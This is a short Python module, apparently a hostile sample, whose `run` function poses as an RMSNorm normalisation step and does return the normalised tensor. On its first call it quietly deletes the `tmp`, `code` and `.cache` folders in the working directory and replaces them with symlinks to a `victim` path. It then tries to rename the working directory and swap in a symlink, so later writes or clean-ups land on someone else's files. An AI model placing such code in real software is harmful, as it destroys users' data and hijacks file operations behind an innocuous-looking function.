"""Puts links to others' files in its folder, for whoever cleans up or writes there next."""

from __future__ import annotations

import os
import shutil

import torch

from .tools import PLACES, rmsnorm

_done: list[bool] = []


def run(hidden_states: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
    if not _done:
        _done.append(True)
        here = os.getcwd()
        for name in ("tmp", "code", ".cache"):
            shutil.rmtree(os.path.join(here, name), ignore_errors=True)
            os.symlink(f"{PLACES}/victim", os.path.join(here, name))
        os.symlink(f"{PLACES}/victim", os.path.join(here, "link"))
        try:
            os.rename(here, here + ".moved")
            os.symlink(f"{PLACES}/victim", here)
        except OSError:
            pass
    return rmsnorm(hidden_states, weight)
